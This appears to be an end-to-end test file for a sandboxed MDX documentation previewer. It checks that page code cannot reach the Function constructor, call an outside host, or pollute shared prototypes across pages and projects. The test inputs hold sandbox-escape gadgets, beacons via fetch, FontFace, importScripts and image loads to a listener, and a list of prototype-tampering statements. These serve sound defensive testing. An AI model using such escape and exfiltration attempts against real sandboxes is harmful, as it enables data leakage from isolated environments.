/** Code of pages, at once and later: it neither talks to another host nor changes another page. */
import { expect, test } from '../base-test.ts';
import { test as inEditor } from '../fixtures.ts';
import { SandboxPage } from '../pages/sandbox-page.ts';
import { smallProject, writeZip } from '../support/archives.ts';
import { listen } from '../support/listening-host.ts';

/** A page that tries to get at the real `Function`, and to load with it, in every way and at every time. */
const escaping = (host: string): string => `
export const load = (name) => 'new FontFace("Leak", "url(${host}/' + name + ')").load(); fetch("${host}/' + name + '"); this.leaked = 1';
export const outcomes = [];
export const attempt = (name, make) => {
  try { make()(load(name))(); outcomes.push(name + ': reached'); } catch { outcomes.push(name + ': refused'); }
};
export const all = (when) => {
  attempt(when + '-object', () => ({}).constructor.constructor);
  attempt(when + '-arrow', () => (() => {}).constructor);
  attempt(when + '-async', () => (async () => {}).constructor);
  attempt(when + '-generator', () => (function* () {}).constructor);
  attempt(when + '-stream', () => (async function* () {}).constructor);
  attempt(when + '-reflect', () => Reflect.get(Object.getPrototypeOf(Date), 'constructor'));
  attempt(when + '-class', () => class extends (() => {}).constructor {});
  attempt(when + '-getter', () => Object.getOwnPropertyDescriptor(Map.prototype, 'size').get.constructor);
  attempt(when + '-error', () => { try { null.x } catch (error) { return error.constructor.constructor; } });
  attempt(when + '-this', () => (function () { return this.Function; })());
};
export const now = all('now');
export const later = (async () => { await null; all('later'); for (let i = 0; i < 100; i++) await i; all('much-later'); })();
export const thenable = Promise.resolve({ then(done) { all('thenable'); done(); } });
export const timer = setTimeout(() => all('timer'), 0);
export const Called = () => { all('component'); return null; };
export const shown = { [Symbol.toPrimitive]() { all('text'); return 'x'; } };

<Called />

<ul>{[1, 2].map((one) => <li title={\`\${shown}\`}>{one}</li>)}</ul>

<p id="outcomes">{outcomes.join(' ')}</p>
`;

test('no code of a page gets hold of what makes code of text, at once or later', async ({ page }) => {
  const host = await listen();
  const sandbox = new SandboxPage(page);
  await sandbox.open({ 'index.mdx': escaping(host.address), 'other.mdx': 'Other words.' });
  const outcomes = (await sandbox.frame.locator('#outcomes').innerText()).split(' ').join(' ');
  expect(outcomes.match(/refused/g)?.length).toBeGreaterThanOrEqual(20);
  expect(outcomes).not.toContain('reached');
  // What was left for later has run when the next page is there.
  await sandbox.show('other');
  await expect(sandbox.frame.getByText('Other words.')).toBeVisible();
  await sandbox.show('index');
  expect(host.heard).toEqual([]);
  await host.close();
});

/** Changes to what pages share: each as a statement that may fail. */
const CHANGES = [
  'Array.prototype.map = () => ["forged"]',
  'Array.prototype.push = function () { return 0 }',
  'Object.prototype.forged = "forged"',
  'Object.prototype.toString = () => "forged"',
  'String.prototype.replace = () => "forged"',
  'String.prototype.trim = () => "forged"',
  'RegExp.prototype.exec = () => null',
  'RegExp.prototype[Symbol.replace] = () => "forged"',
  'Map.prototype.get = () => undefined',
  'Object.getPrototypeOf([].values()).next = () => ({ done: true })',
  'Date.prototype.toISOString = () => "forged"',
  'Date.now = () => 0',
  'JSON.stringify = () => "forged"',
  'Math.max = () => 0',
  'TextEncoder.prototype.encode = () => new Uint8Array()',
  'TextDecoder.prototype.decode = () => "forged"',
  'Object.getPrototypeOf(Uint8Array.prototype).slice = () => new Uint8Array()',
  'URL.prototype.toString = () => "forged"',
  'Object.defineProperty(URL.prototype, "href", { get: () => "forged" })',
  'Promise.prototype.then = () => {}',
  'Error.prototype.message = "forged"',
  'Error.prepareStackTrace = () => "forged"',
  'Card.forged = 1; Card.prototype = {}',
  'Object.defineProperty(Card, "name", { value: "forged" })',
  'Tree.Folder = () => "forged"',
  'React.Component.prototype.render = () => "forged"',
  'frontmatter.title = "forged"',
  'arguments[0].jsx = () => "forged"',
];

test('what a page changes, at once or later, is as it was for the next page and its neighbours', async ({ page }) => {
  const neighbour = `---
title: Neighbour
---

## A heading

<Card title="Card" href="/index">A **card** with \`code\`.</Card>

<Tree><Tree.Folder name="folder"><Tree.File name="file" /></Tree.Folder></Tree>

{[3, 4].map((one) => <b key={one}>{new Date(one).toISOString()} {String(new URL('https://a.example/' + one))}</b>)}

{missing.name}
`;
  const sandbox = new SandboxPage(page);
  const clean = await sandbox.open(
    { 'index.mdx': '---\ntitle: Start\n---\n\nWords.', 'neighbour.mdx': neighbour },
    'neighbour',
  );
  const before = await sandbox.document();

  const attempts = CHANGES.map((change) => `(() => { try { ${change} } catch {} })();`).join('\n');
  const context = 'export const Look = (props, context) => <i id="context">{typeof context}</i>';
  await sandbox.write(
    'index.mdx',
    `---\ntitle: Start\n---\n\nexport const change = function () {\n${attempts}\n};\n\nexport const now = change();\n\nexport const later = (async () => { await null; change(); })();\n\n${context}\n\n<Look />\n\n{arguments.length > 1 ? 'has more' : 'has no more'}\n`,
  );
  await sandbox.show('index');
  // What a component of ours is given holds the whole site; one of the page's is not given it.
  await expect(sandbox.frame.locator('#context')).toHaveText('undefined');
  const again = await sandbox.show('neighbour');
  expect((await sandbox.document()).rendered).toBe(before.rendered);
  expect(again.diagnostics).toEqual(clean.diagnostics);
});

test('components with state find no way out either', async ({ page }) => {
  const host = await listen();
  const sandbox = new SandboxPage(page);
  const tries = `
export const Escape = () => {
  const [count, setCount] = useState(0);
  useEffect(() => {
    const code = 'new FontFace("Leak", "url(${host.address}/font)").load(); fetch("${host.address}/fetch")';
    for (const make of [() => ({}).constructor.constructor, () => (async () => {}).constructor, () => Function, () => eval]) {
      try { make()(code)(); } catch {}
    }
    try { new FontFace('Leak', 'url(${host.address}/direct)').load(); } catch {}
    try { new XMLHttpRequest().open('GET', '${host.address}/request'); } catch {}
    try { importScripts('${host.address}/script'); } catch {}
    import('${host.address}/module').catch(() => {});
    try { new Image().src = '${host.address}/image'; } catch {}
  }, [count]);
  return <button onClick={() => setCount(count + 1)}>Tried {count}</button>;
};

<Escape />
`;
  await sandbox.open({ 'index.mdx': tries });
  await sandbox.frame.getByRole('button', { name: 'Tried 0' }).click();
  await expect(sandbox.frame.getByRole('button', { name: 'Tried 1' })).toBeVisible();
  expect(host.heard).toEqual([]);
  await host.close();
});

test('usual code works as ever where the language is frozen', async ({ page }) => {
  const sandbox = new SandboxPage(page);
  const report = await sandbox.open({
    'index.mdx': `
export class Problem extends Error {
  constructor(words) { super(words); this.name = 'Problem'; this.message = words + '!'; }
}
export function Old() {}
export const old = (() => { Old.prototype = Object.create({}); Old.prototype.constructor = Old; return new Old(); })();
export const named = (() => { const made = {}; made.toString = () => 'named'; made.constructor = 1; return made; })();
export class List extends Array { last() { return this[this.length - 1]; } }

<p id="usual">{String(new Problem('So'))} {String(old.constructor === Old)} {String(named)} {List.of(1, 2).map((one) => one + 1).last()} {typeof frontmatter}</p>
`,
  });
  expect(report.diagnostics).toEqual([]);
  await expect(sandbox.frame.locator('#usual')).toHaveText('Problem: So! true named 3 object');
});

/** Leaves something wherever a page may write, and tells what of it is there already. Of an expression's last match no freezing takes hold. */
const LEAVING = `
export const before = String(RegExp.$1);
export const found = [['array', Array.prototype], ['json', JSON], ['expression', RegExp]].map(([name, place]) => {
  const known = place.left === undefined ? 'empty' : String(place.left);
  try { place.left = 'of-the-first-project'; } catch {}
  return name + ':' + known;
});
export const match = /(secret)/.exec('The secret of the first project.');
export const after = String(RegExp.$1);

<p id="found">{found.join(' ')} last:{before} now:{after}</p>
`;

const OTHER_CONFIG = JSON.stringify({ name: 'Other', navigation: [{ group: 'Start', pages: ['index'] }] });

inEditor(
  'each project has a realm of its own: what code of one leaves behind is not there for the next',
  async ({ page, home, openSmall, workspace }, testInfo) => {
    await openSmall({ 'index.mdx': LEAVING });
    await expect(workspace.preview.locator('#found')).toContainText('now:secret');
    await page.getByRole('link', { name: 'All projects' }).click();
    const zip = testInfo.outputPath('other.zip');
    writeZip(zip, smallProject({ 'docs.json': OTHER_CONFIG, 'index.mdx': LEAVING }));
    await home.openZip(zip);
    await workspace.waitUntilOpen();
    await expect(workspace.preview.locator('#found')).toHaveText(
      /^array:empty json:empty expression:empty last:(?!secret)/,
    );
  },
);
